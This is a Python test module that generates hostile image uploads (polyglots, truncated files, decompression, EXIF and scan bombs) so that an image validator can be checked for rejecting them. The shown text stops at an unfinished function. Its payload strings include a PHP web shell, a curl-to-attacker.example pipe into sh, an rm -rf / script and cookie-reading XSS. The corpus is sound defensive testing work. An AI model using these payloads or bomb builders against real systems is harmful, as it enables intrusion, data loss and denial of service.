"""A deterministic corpus of hostile uploads: malformed, adversarial, and valid-but-awkward images.

Every case has a class name and says whether the product must accept it. The awkward valid ones (CMYK, 16-bit,
palette or alpha transparency, animations, EXIF orientation, multi-picture JPEGs) must be accepted and
normalised to the colours in `probes` (fractions of the upright width and height -> RGB); everything else must
be refused with a clear message by webapp/catalog/images.py, on every route. tests/test_hostile_inputs.py runs
the corpus through the search page, the API (search and image upload) and `manage.py import_catalog`.

    python -m tests.hostile_corpus             # the classes and their case counts
    python -m tests.hostile_corpus --report    # run the corpus through every route and write the table into
                                               # docs/reliability.md (runs tests/test_hostile_inputs.py)

No Django here: generating the corpus needs Pillow and numpy only.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import random
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

ROOT = Path(__file__).resolve().parent.parent
REPORT_PATH = ROOT / "docs" / "reliability.md"
REPORT_ENV = "HOSTILE_CORPUS_REPORT"
HOSTILE_JSON = "hostile_inputs.json"  # beside the report; read by benchmarks/reliability.py
SEED = 20250611

RGB = tuple[int, int, int]
Probe = tuple[float, float, RGB]
CONTENT_TYPES = {"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp", "gif": "image/gif"}
NAMES = ("photo.jpg", "IMG_2041.JPG", "item.png", "shot.webp", "anim.gif", "upload.jpeg")


@dataclass(frozen=True)
class Case:
    id: str
    cls: str
    content: bytes
    filename: str
    content_type: str
    accept: bool
    probes: tuple[Probe, ...] = ()  # accepted cases: where the upright RGB image must have which colour
    size: tuple[int, int] | None = None  # accepted cases: the upright size
    tolerance: int = 14  # per channel, for lossy formats


@dataclass(frozen=True)
class CaseClass:
    name: str
    accept: bool
    description: str
    build: Callable[[random.Random], Iterator[tuple[bytes, dict]]]


# Builders --------------------------------------------------------------------------------------------------
def encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def colour(rng: random.Random) -> RGB:
    return (rng.randrange(20, 236), rng.randrange(20, 236), rng.randrange(20, 236))


def noise_image(rng: random.Random, size=(64, 64)) -> Image.Image:
    """Noisy pixels: they compress badly, so a cut lands in the middle of real image data."""
    pixels = np.random.default_rng(rng.randrange(2**32)).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    return Image.fromarray(pixels)


def halves(size: tuple[int, int], left: RGB, right: RGB) -> Image.Image:
    image = Image.new("RGB", size, left)
    image.paste(right, (size[0] // 2, 0, size[0], size[1]))
    return image


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png(
    width: int,
    height: int,
    rows: bytes | None = None,
    *,
    bit_depth: int = 8,
    colour_type: int = 2,
    before_idat: tuple[bytes, ...] = (),
    idat: bytes | None = None,
) -> bytes:
    """A PNG from raw scanlines (each with its filter byte), or with the IDAT given as is."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    data = idat if idat is not None else zlib.compress(rows or b"", 6)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + b"".join(before_idat)
        + png_chunk(b"IDAT", data)
        + png_chunk(b"IEND", b"")
    )


def png_rows(samples: np.ndarray) -> bytes:
    """Scanlines (filter 0) of an (h, w, c) array of uint8 or big-endian uint16 samples."""
    if samples.dtype == np.uint16:
        samples = samples.astype(">u2")
    flat = samples.reshape(samples.shape[0], -1).view(np.uint8)
    return b"".join(b"\x00" + row.tobytes() for row in flat)


def zeros_zlib(size: int) -> bytes:
    """zlib of `size` zero bytes, streamed (a few KB per 10 MB)."""
    compressor = zlib.compressobj(9)
    block = b"\x00" * (1 << 20)
    parts = [compressor.compress(block) for _ in range(size >> 20)]
    parts.append(compressor.compress(b"\x00" * (size & ((1 << 20) - 1))))
    parts.append(compressor.flush())
    return b"".join(parts)


def jpeg_insert(jpeg: bytes, marker: int, payload: bytes) -> bytes:
    """Insert a segment right after SOI."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload + jpeg[2:]


def jpeg_set_size(jpeg: bytes, width: int, height: int) -> bytes:
    """Patch the frame header (SOF0/1/2) to claim another size."""
    data = bytearray(jpeg)
    position = 2
    while position < len(data) - 9:
        marker, length = data[position + 1], struct.unpack(">H", data[position + 2 : position + 4])[0]
        if marker in (0xC0, 0xC1, 0xC2):
            data[position + 5 : position + 9] = struct.pack(">HH", height, width)
            return bytes(data)
        position += 2 + length
    raise ValueError("no SOF segment")


def tiff_ifd(entries: list[tuple[int, int, int, int]], next_ifd: int = 0, *, offset: int = 8) -> bytes:
    """A little-endian TIFF header whose IFD0 (at 8) holds the given (tag, type, count, value) entries."""
    out = b"II*\x00" + struct.pack("<I", offset)
    out += b"\x00" * (offset - 8)
    out += struct.pack("<H", len(entries))
    out += b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return out + struct.pack("<I", next_ifd)


def exif_amplifier(entries: int, value_bytes: int) -> bytes:
    """EXIF whose tags all point at the same bytes: a few KB that a parser expands to entries x value_bytes."""
    block = tiff_ifd([(0x9C9C + i % 16, 7, value_bytes, 8) for i in range(entries)])
    return block + b"\x00" * max(0, value_bytes + 8 - len(block))


def riff(form: bytes, chunks: list[tuple[bytes, bytes]]) -> bytes:
    body = form + b"".join(
        kind + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"") for kind, data in chunks
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_chunks(webp: bytes) -> list[tuple[bytes, bytes]]:
    chunks, position = [], 12
    while position + 8 <= len(webp):
        kind, size = webp[position : position + 4], struct.unpack("<I", webp[position + 4 : position + 8])[0]
        chunks.append((kind, webp[position + 8 : position + 8 + size]))
        position += 8 + size + (size & 1)
    return chunks


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    return bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


def gif_raw(screen: tuple[int, int], frame: tuple[int, int], lzw: bytes = b"\x02\x02\x4c\x01\x00") -> bytes:
    """A GIF: logical screen, a 2-colour table, one image descriptor of `frame` size and its LZW data."""
    header = b"GIF89a" + struct.pack("<HHBBB", screen[0], screen[1], 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, frame[0], frame[1], 0)
    return header + image + lzw + b"\x3b"


def bmp_header(width: int, height: int) -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info) + 64, 0, 0, 14 + len(info)) + info + b"\x00" * 64


def tiff_header_only(width: int, height: int) -> bytes:
    entries = [
        (256, 4, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 4, 1, height),
        (279, 4, 1, 64),
    ]
    return tiff_ifd(entries) + b"\x00" * 64


# Accepted classes ------------------------------------------------------------------------------------------
def build_controls(rng):
    for fmt, options in [
        ("JPEG", {"quality": 92}),
        ("PNG", {}),
        ("WEBP", {"quality": 90}),
        ("GIF", {}),
        ("BMP", {}),
        ("TIFF", {}),
        ("JPEG", {"progressive": True}),
        ("WEBP", {"lossless": True}),
    ]:
        for _ in range(7):
            left, right = colour(rng), colour(rng)
            size = (rng.randrange(24, 96), rng.randrange(24, 96))
            content = encode(halves(size, left, right), fmt, **options)
            yield content, {"probes": ((0.2, 0.5, left), (0.8, 0.5, right)), "size": size}
    for _ in range(4):
        grey = rng.randrange(10, 246)
        yield encode(Image.new("L", (40, 30), grey), "JPEG"), {"probes": ((0.5, 0.5, (grey,) * 3),), "size": (40, 30)}
    for _ in range(2):
        size = (rng.randrange(32, 64), rng.randrange(16, 48))
        bits = Image.new("1", size, 0)
        bits.paste(1, (size[0] // 2, 0, *size))
        yield encode(bits, "PNG"), {"probes": ((0.2, 0.5, (0, 0, 0)), (0.8, 0.5, (255, 255, 255))), "size": size}


def cmyk_expected(cmyk: tuple[int, int, int, int]) -> RGB:
    c, m, y, k = cmyk
    return tuple(round((255 - v) * (255 - k) / 255) for v in (c, m, y))  # type: ignore[return-value]


def build_cmyk(rng):
    for index in range(48):
        cmyk = (rng.randrange(0, 256), rng.randrange(0, 256), rng.randrange(0, 256), rng.randrange(0, 160))
        size = (rng.randrange(16, 80), rng.randrange(16, 80))
        fmt = "TIFF" if index % 4 == 3 else "JPEG"
        content = encode(Image.new("CMYK", size, cmyk), fmt)
        yield content, {"probes": ((0.5, 0.5, cmyk_expected(cmyk)),), "size": size, "tolerance": 16}


def build_16bit(rng):
    """16-bit grey, grey + alpha, RGB and RGBA PNGs (raw scanlines) and 16-bit grey TIFFs."""
    for index in range(60):
        kind = index % 5
        w, h = rng.randrange(16, 64) * 2, rng.randrange(16, 64)
        if kind == 0:  # grey
            value = rng.randrange(0, 65536)
            content = png(w, h, png_rows(np.full((h, w, 1), value, np.uint16)), bit_depth=16, colour_type=0)
            probes = ((0.5, 0.5, (round(value / 257),) * 3),)
        elif kind == 1:  # RGB
            value = [rng.randrange(0, 65536) for _ in range(3)]
            content = png(w, h, png_rows(np.tile(np.array(value, np.uint16), (h, w, 1))), bit_depth=16)
            probes = ((0.5, 0.5, tuple(round(v / 257) for v in value)),)
        elif kind in (2, 3):  # RGBA or grey + alpha: left half transparent (white), right half opaque
            channels = 3 if kind == 2 else 1
            value = [rng.randrange(0, 65536) for _ in range(channels)]
            samples = np.zeros((h, w, channels + 1), np.uint16)
            samples[:, w // 2 :, :channels] = value
            samples[:, w // 2 :, channels] = 65535
            content = png(w, h, png_rows(samples), bit_depth=16, colour_type=6 if kind == 2 else 4)
            opaque = tuple(round(v / 257) for v in value) if channels == 3 else (round(value[0] / 257),) * 3
            probes = ((0.2, 0.5, (255, 255, 255)), (0.8, 0.5, opaque))
        else:  # 16-bit grey TIFF
            value = rng.randrange(0, 65536)
            content = encode(Image.fromarray(np.full((h, w), value, np.uint16)), "TIFF")
            probes = ((0.5, 0.5, (round(value / 257),) * 3),)
        yield content, {"probes": probes, "size": (w, h), "tolerance": 2}


def build_palette_transparency(rng):
    """Palette images with transparency: index 0 transparent (or half transparent), index 1 opaque."""
    for index in range(48):
        shown, hidden = colour(rng), colour(rng)
        size = (rng.randrange(16, 64) * 2, rng.randrange(16, 64))
        image = Image.new("P", size, 0)
        image.putpalette(list(hidden) + list(shown) + [0, 0, 0] * 254)
        image.paste(1, (size[0] // 2, 0, size[0], size[1]))
        if index % 4 == 3:  # partial alpha through tRNS: index 0 at alpha 128 over white
            content = encode(image, "PNG", transparency=bytes([128, 255]))
            mixed = tuple(round(c * 128 / 255 + 255 * (1 - 128 / 255)) for c in hidden)
            probes = ((0.2, 0.5, mixed), (0.8, 0.5, shown))
        else:
            content = encode(image, "GIF" if index % 4 == 1 else "PNG", transparency=0)
            probes = ((0.2, 0.5, (255, 255, 255)), (0.8, 0.5, shown))
        yield content, {"probes": probes, "size": size, "tolerance": 3}


def build_alpha(rng):
    """Alpha channels (RGBA and LA PNG, RGBA WebP) and an RGB colour key (tRNS): transparent parts on white."""
    for index in range(36):
        shown, hidden = colour(rng), colour(rng)
        size = (rng.randrange(16, 64) * 2, rng.randrange(16, 64))
        kind = index % 4
        if kind == 3:  # colour key
            content = encode(halves(size, hidden, shown), "PNG", transparency=hidden)
        else:
            image = Image.new("RGBA", size, hidden + (0,))
            image.paste(shown + (255,), (size[0] // 2, 0, size[0], size[1]))
            if kind == 1:
                image = image.convert("LA")
                shown = (image.getpixel((size[0] - 1, 0))[0],) * 3
            content = encode(image, "WEBP" if kind == 2 else "PNG", **({"lossless": True} if kind == 2 else {}))
        yield content, {"probes": ((0.2, 0.5, (255, 255, 255)), (0.8, 0.5, shown)), "size": size, "tolerance": 3}


def build_animated(rng):
    """Animated GIF, WebP and PNG (APNG): the first frame is the picture."""
    for index in range(48):
        frames = [colour(rng) for _ in range(rng.randrange(2, 6))]
        size = (rng.randrange(16, 64), rng.randrange(16, 64))
        images = [Image.new("RGB", size, c) for c in frames]
        fmt = ("GIF", "WEBP", "PNG")[index % 3]
        options = {"lossless": True} if fmt == "WEBP" else {}
        content = encode(images[0], fmt, save_all=True, append_images=images[1:], duration=80, loop=0, **options)
        yield content, {"probes": ((0.5, 0.5, frames[0]),), "size": size, "tolerance": 3}


QUADRANTS = ((255, 0, 0), (0, 200, 0), (0, 0, 255), (230, 230, 0))  # top-left, top-right, bottom-left, bottom-right
TRANSPOSE = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_270,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_90,
}


def build_exif_orientation(rng):
    """EXIF orientations 1-8 in JPEG, PNG (eXIf) and WebP: the upright picture is what the EXIF asks for."""
    for index in range(48):
        orientation, fmt = index % 8 + 1, ("JPEG", "PNG", "WEBP")[index // 8 % 3]
        w, h = rng.randrange(20, 40) * 2, rng.randrange(12, 30) * 2
        image = Image.new("RGB", (w, h))
        for q, rgb in enumerate(QUADRANTS):
            x, y = (q % 2) * w // 2, (q // 2) * h // 2
            image.paste(rgb, (x, y, x + w // 2, y + h // 2))
        exif = Image.Exif()
        exif[0x0112] = orientation
        options = {"quality": 95} if fmt != "PNG" else {}
        content = encode(image, fmt, exif=exif.tobytes(), **options)
        method = TRANSPOSE[orientation]
        upright = image.transpose(method) if method is not None else image
        probes = tuple(
            (fx, fy, upright.getpixel((int(fx * upright.width), int(fy * upright.height))))
            for fx in (0.25, 0.75)
            for fy in (0.25, 0.75)
        )
        yield content, {"probes": probes, "size": upright.size, "tolerance": 20}


def build_mpo(rng):
    """Multi-picture JPEGs (what many phones write): the first picture counts."""
    for _ in range(12):
        first, second = colour(rng), colour(rng)
        size = (rng.randrange(16, 64), rng.randrange(16, 64))
        content = encode(
            Image.new("RGB", size, first), "MPO", save_all=True, append_images=[Image.new("RGB", size, second)]
        )
        yield content, {"probes": ((0.5, 0.5, first),), "size": size}


# Refused classes -------------------------------------------------------------------------------------------
def build_zero_size(rng):
    for name in NAMES:
        yield b"", {"filename": name}


def build_truncated(rng):
    """Real images cut short: at 40 points through the data, and just before the end marker."""
    makers = [
        ("PNG", {}),
        ("JPEG", {"quality": 90}),
        ("JPEG", {"progressive": True}),
        ("WEBP", {"quality": 80}),
        ("WEBP", {"lossless": True}),
        ("GIF", {}),
        ("TIFF", {}),
        ("BMP", {}),
    ]
    for fmt, options in makers:
        whole = encode(noise_image(rng, (rng.randrange(48, 80), rng.randrange(48, 80))), fmt, **options)
        cuts = sorted({max(1, len(whole) * k // 41) for k in range(1, 41)} | {len(whole) - 1, len(whole) - 2})
        if fmt == "PNG":
            cuts.append(len(whole) - 12)  # the IEND chunk missing
        for cut in cuts:
            yield whole[:cut], {"filename": f"cut.{fmt.lower()}"}


POLYGLOT_PAYLOADS = [
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 20 + b"evil.jar" + b"PK\x05\x06" + b"\x00" * 18,
    b"<html><body><script>alert(document.cookie)</script></body></html>",
    b"<?php system($_GET['cmd']); ?>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
    b"#!/bin/sh\ncurl http://attacker.example/x | sh\n",
    b"<iframe src='javascript:alert(1)'></iframe>",
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(b"<html>" * 200)[2:],
]


HIDDEN_PAYLOADS = {0, 1, 2, 3, 4, 6}  # what a reader finds anywhere in a file: a zip directory, HTML, PHP, SVG, PDF


def build_polyglot(rng):
    """An image that is also something else: an archive, HTML, PHP or a script appended after its end, or
    active content hidden inside it (a JPEG comment, a PNG text chunk, a GIF comment)."""
    for index, payload in enumerate(POLYGLOT_PAYLOADS):
        for fmt in ("PNG", "JPEG", "GIF", "WEBP", "BMP", "TIFF"):
            base = encode(noise_image(rng, (24, 24)), fmt)
            yield base + payload, {"filename": f"poly{index}.{fmt.lower()}"}
        yield payload + encode(noise_image(rng, (24, 24)), "PNG"), {"filename": f"prefixed{index}.png"}
        if index not in HIDDEN_PAYLOADS:
            continue  # a shell script or gzip inside metadata is inert: nothing reads it from there
        jpeg = encode(noise_image(rng, (24, 24)), "JPEG")
        yield jpeg_insert(jpeg, 0xFE, payload), {"filename": "comment.jpg"}  # COM segment
        text = png_chunk(b"tEXt", b"Comment\x00" + payload)
        image = noise_image(rng, (24, 24))
        yield png(24, 24, png_rows(np.asarray(image)), before_idat=(text,)), {"filename": "text.png"}
        gif = encode(image, "GIF")
        comment = (
            b"\x21\xfe"
            + b"".join(bytes([len(payload[i : i + 255])]) + payload[i : i + 255] for i in range(0, len(payload), 255))
            + b"\x00"
        )
        yield gif[:-1] + comment + b"\x3b", {"filename": "comment.gif"}
        exif = Image.Exif()
        exif[0x010E] = payload.decode("latin-1")  # ImageDescription
        yield encode(image, "JPEG", exif=exif.tobytes()), {"filename": "described.jpg"}
    for _ in range(6):  # the classic GIF/JavaScript polyglot
        yield (
            b"GIF89a/*\x0a\x00\x0a\x00\x00\x00\x00*/=alert(" + str(rng.randrange(1000)).encode() + b");//;",
            {"filename": "gifar.gif"},
        )


def build_bombs(rng):
    """Decompression bombs: headers that claim billions of pixels over a few KB of data, in every format."""
    for width, height in [(20_000, 20_000), (65_535, 65_535), (100_000, 100_000), (2**31 - 1, 1), (12_000, 12_000)]:
        yield png(width, height, idat=zlib.compress(b"\x00" * 4096)), {"filename": "bomb.png"}
    for megabytes in (8, 32):  # real zlib streams of zeros: 15000 x 15000 claimed, MBs of zeros inside
        yield png(15_000, 15_000, idat=zeros_zlib(megabytes << 20)), {"filename": "zbomb.png"}
    yield png(16_000, 16_000, bit_depth=1, colour_type=0, idat=zeros_zlib(4 << 20)), {"filename": "1bit.png"}
    jpeg = encode(noise_image(rng, (32, 32)), "JPEG")
    progressive = encode(noise_image(rng, (32, 32)), "JPEG", progressive=True)
    for width, height in [(65_500, 65_500), (30_000, 30_000), (60_000, 8_000), (20_000, 20_000)]:
        yield jpeg_set_size(jpeg, width, height), {"filename": "bomb.jpg"}
        yield jpeg_set_size(progressive, width, height), {"filename": "bomb-progressive.jpg"}
    lossless = encode(noise_image(rng, (16, 16)), "WEBP", lossless=True)
    lossy = encode(noise_image(rng, (16, 16)), "WEBP")
    for width, height in [(16_384, 16_384), (16_000, 12_000), (16_384, 9_000)]:
        for base in (lossless, lossy):
            chunks = webp_chunks(base)
            yield riff(b"WEBP", [(b"VP8X", vp8x(width, height)), *chunks]), {"filename": "bomb.webp"}
        header = bytearray(webp_chunks(lossless)[0][1])  # VP8L: 14-bit width-1, height-1 after the signature
        bits = (width - 1) | ((height - 1) << 14) | (int.from_bytes(header[1:5], "little") & ~((1 << 28) - 1))
        header[1:5] = bits.to_bytes(4, "little")
        yield riff(b"WEBP", [(b"VP8L", bytes(header))]), {"filename": "vp8l-bomb.webp"}
        frame = bytearray(webp_chunks(lossy)[0][1])  # VP8: 14-bit width and height after the start code
        frame[6:10] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
        yield riff(b"WEBP", [(b"VP8 ", bytes(frame))]), {"filename": "vp8-bomb.webp"}
    for screen, frame in [
        ((65_535, 65_535), (8, 8)),
        ((65_535, 65_535), (65_535, 65_535)),
        ((16, 16), (65_535, 65_535)),
        ((30_000, 30_000), (30_000, 30_000)),
        ((16, 16), (20_000, 9_000)),
    ]:
        yield gif_raw(screen, frame), {"filename": "bomb.gif"}
    for width, height in [(50_000, 50_000), (100_000, 2_000)]:
        yield bmp_header(width, height), {"filename": "bomb.bmp"}
        yield tiff_header_only(width, height), {"filename": "bomb.tiff"}
    for megabytes in (4, 16):  # text and ICC chunks that inflate far past Pillow's limits
        yield (
            png(
                24,
                24,
                png_rows(np.asarray(noise_image(rng, (24, 24)))),
                before_idat=(png_chunk(b"zTXt", b"Comment\x00\x00" + zeros_zlib(megabytes << 20)),),
            ),
            {"filename": "ztxt.png"},
        )
        yield (
            png(
                24,
                24,
                png_rows(np.asarray(noise_image(rng, (24, 24)))),
                before_idat=(png_chunk(b"iCCP", b"icc\x00\x00" + zeros_zlib(megabytes << 20)),),
            ),
            {"filename": "iccp.png"},
        )


def build_huge_dimensions(rng):
    """Real, small files whose sides or pixel counts pass the limits (not bombs: the data is all there)."""
    for width, height in [(12_001, 8), (8, 12_001), (20_000, 8), (8, 16_000), (13_000, 9)]:
        bits = Image.new("1", (width, height), 1)
        yield encode(bits, "PNG"), {"filename": "long.png"}
        yield encode(bits, "GIF"), {"filename": "long.gif"}
        yield encode(bits.convert("L"), "JPEG", quality=50), {"filename": "long.jpg"}
        if max(width, height) <= 16_383:
            yield encode(bits.convert("L"), "WEBP", quality=10), {"filename": "long.webp"}
    for width, height in [(7_000, 6_000), (6_400, 6_400), (10_000, 4_100)]:  # over IMAGE_MAX_PIXELS, under the side
        yield png(width, height, idat=zlib.compress(b"\x00" * 64)), {"filename": "wide.png"}
        yield jpeg_set_size(encode(noise_image(rng, (16, 16)), "JPEG"), width, height), {"filename": "wide.jpg"}
        yield gif_raw((width, height), (width, height)), {"filename": "wide.gif"}
        yield (
            riff(b"WEBP", [(b"VP8X", vp8x(width, height)), *webp_chunks(encode(noise_image(rng, (16, 16)), "WEBP"))]),
            {"filename": "wide.webp"},
        )
        yield bmp_header(width, height), {"filename": "wide.bmp"}
        yield tiff_header_only(width, height), {"filename": "wide.tiff"}


def build_tiny_dimensions(rng):
    for width, height in [(1, 1), (2, 3), (7, 7), (7, 100), (100, 7), (4, 4)]:
        image = Image.new("RGB", (width, height), colour(rng))
        for fmt in ("PNG", "JPEG", "GIF", "WEBP"):
            yield encode(image, fmt), {"filename": f"tiny.{fmt.lower()}"}
    for width, height in [(0, 16), (16, 0), (0, 0)]:
        yield png(width, height, idat=zlib.compress(b"")), {"filename": "zero.png"}
        yield gif_raw((width, height), (width, height)), {"filename": "zero.gif"}


FIXED_DATE = time.gmtime(1_577_836_800)  # 2020-01-01, as Pillow writes PDF dates


def _other_formats() -> list[tuple[str, bytes]]:
    found = []
    for fmt in (
        "ICO",
        "TGA",
        "PPM",
        "PCX",
        "SGI",
        "IM",
        "DDS",
        "JPEG2000",
        "ICNS",
        "EPS",
        "QOI",
        "SPIDER",
        "PDF",
        "AVIF",
    ):
        try:
            options = {"creationDate": FIXED_DATE, "modDate": FIXED_DATE} if fmt == "PDF" else {}  # else it is now()
            found.append((fmt, encode(Image.new("RGB", (32, 32), (10, 120, 200)), fmt, **options)))
        except (KeyError, OSError, ValueError):  # not in this Pillow build
            continue
    found.append(("XBM", encode(Image.new("1", (32, 32), 1), "XBM")))
    return found


WRONG_TYPES = [
    b"hello, I am a text file pretending to be a photo\n",
    b"<!DOCTYPE html><html><head><title>x</title></head><body>not an image</body></html>",
    b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' width='64' height='64'><rect/></svg>",
    b'{"image": "data:image/png;base64,iVBORw0KGgo="}',
    b"sku,title,price\n1,shirt,10\n",
    b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 40,
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + zlib.compress(b"x" * 100)[2:],
    b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32,
    b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32,
    b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00",
    b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 24,
    b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 32,
    b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32,
    b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" * 8,
    b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x44\xac\x00\x00\x88\x58\x01\x00\x02\x00\x10\x00",
    b"RIFF\x24\x00\x00\x00AVI LIST" + b"\x00" * 28,
    b"\x1aE\xdf\xa3\x9fB\x86\x81\x01" + b"\x00" * 32,
    b"OggS\x00\x02" + b"\x00" * 40,
    b"SQLite format 3\x00" + b"\x00" * 84,
    b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
    b"import os\nos.system('id')\n",
    b"\x89PNG\r\n\x1a\n",
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR",
    b"\xff\xd8\xff",
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
    b"GIF89a",
    b"GIF87a\x10\x00",
    b"RIFF\x00\x00\x00\x00WEBP",
    b"RIFF\x10\x00\x00\x00WEBPVP8 \x04\x00\x00\x00",
    b"BM",
    b"II*\x00",
    b"MM\x00*\x00\x00\x00\x08",
    b"\x00" * 512,
    b"\xff" * 512,
]


def build_wrong_type(rng):
    """Not images (documents, archives, programs, media, magic numbers alone, other image formats), sent with
    image names and image content types."""
    payloads = list(WRONG_TYPES) + [content for _, content in _other_formats()]
    payloads += [bytes(rng.randrange(256) for _ in range(rng.choice((1, 7, 64, 600, 4096)))) for _ in range(24)]
    for payload in payloads:
        yield payload, {}
        yield payload + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300))), {}  # with a noisy tail


def build_exif_bombs(rng):
    """EXIF that expands (every tag points at the same bytes), loops, points outside itself, or is noise; in
    JPEG (APP1 and the multi-picture APP2), PNG (eXIf), WebP (EXIF) and TIFF (the file's own IFD)."""
    jpeg = encode(noise_image(rng, (32, 32)), "JPEG")
    for entries, value_bytes in [(1000, 12_100), (2000, 24_100), (4000, 48_100), (5000, 60_100)]:
        amplifier = exif_amplifier(entries, value_bytes)
        if len(amplifier) + 8 < 65_533:
            yield jpeg_insert(jpeg, 0xE1, b"Exif\x00\x00" + amplifier), {"filename": "exif.jpg"}
            yield jpeg_insert(jpeg, 0xE2, b"MPF\x00" + amplifier), {"filename": "mpf.jpg"}
        image = noise_image(rng, (24, 24))
        yield (
            png(24, 24, png_rows(np.asarray(image)), before_idat=(png_chunk(b"eXIf", amplifier),)),
            {"filename": "exif.png"},
        )
        webp = encode(image, "WEBP", quality=80)
        yield (
            riff(b"WEBP", [(b"VP8X", vp8x(24, 24, flags=0x08)), *webp_chunks(webp), (b"EXIF", amplifier)]),
            {"filename": "exif.webp"},
        )
        strip = np.asarray(image).tobytes()
        tiff = tiff_ifd(
            [
                (256, 4, 1, 24),
                (257, 4, 1, 24),
                (258, 3, 1, 8),
                (262, 3, 1, 2),
                (277, 3, 1, 3),
                (273, 4, 1, 0),
                (279, 4, 1, len(strip)),
            ]
            + [(0x9C9C + i % 16, 7, value_bytes, 8) for i in range(entries)]
        )
        tiff = tiff.replace(
            struct.pack("<HHII", 273, 4, 1, 0), struct.pack("<HHII", 273, 4, 1, len(tiff) + value_bytes)
        )
        yield tiff + b"\x00" * value_bytes + strip, {"filename": "ifd.tiff"}
    loops = [
        tiff_ifd([(0x0112, 3, 1, 1)], next_ifd=8),  # IFD0 -> IFD0
        tiff_ifd([(0x8769, 4, 1, 8)]),  # EXIF IFD -> IFD0
        tiff_ifd([(0x0112, 3, 1, 1), (0x8825, 4, 1, 8)], next_ifd=8),
    ]
    outside = [
        tiff_ifd([(0x010E, 2, 0xFFFF_FFF0, 8)]),  # a description of 4 GB
        tiff_ifd([(0x010F, 2, 4096, 0x7FFF_0000)]),  # a make far past the end
        tiff_ifd([(0x0112, 3, 1, 1)], next_ifd=0x7FFF_FFFF),
        tiff_ifd([(0x8769, 4, 1, 0x00FF_FFFF)]),
        b"II*\x00" + struct.pack("<I", 0xFFFF_0000),
        b"II*\x00\x08\x00\x00\x00\xff\xff",  # 65535 entries declared, none there
    ]
    for block in loops + outside:
        yield jpeg_insert(jpeg, 0xE1, b"Exif\x00\x00" + block), {"filename": "exif.jpg"}
        yield (
            png(24, 24, png_rows(np.asarray(noise_image(rng, (24, 24)))), before_idat=(png_chunk(b"eXIf", block),)),
            {"filename": "exif.png"},
        )
    for _ in range(6):
        noise = bytes(rng.randrange(256) for _ in range(rng.randrange(16, 2000)))
        yield jpeg_insert(jpeg, 0xE1, b"Exif\x00\x00II*\x00" + noise), {"filename": "exif-noise.jpg"}
        yield (
            png(
                24,
                24,
                png_rows(np.asarray(noise_image(rng, (24, 24)))),
                before_idat=(png_chunk(b"eXIf", b"MM\x00*" + noise),),
            ),
            {"filename": "exif-noise.png"},
        )


def build_scan_bombs(rng):
    """Progressive JPEGs with hundreds of scans (each scan is another pass over every coefficient)."""
    for repeats in (150, 400, 1000):
        for size in ((64, 64), (256, 256)):
            jpeg = encode(noise_image(rng, size), "JPEG", progressive=True)
            last_sos = jpeg.rfind(b"\xff\xda")
            scan = jpeg[last_sos:-2]
            yield jpeg[:-2] + scan * repeats + b"\xff\xd9", {"filename": "scans.jpg"}


def build_oversize(rng):
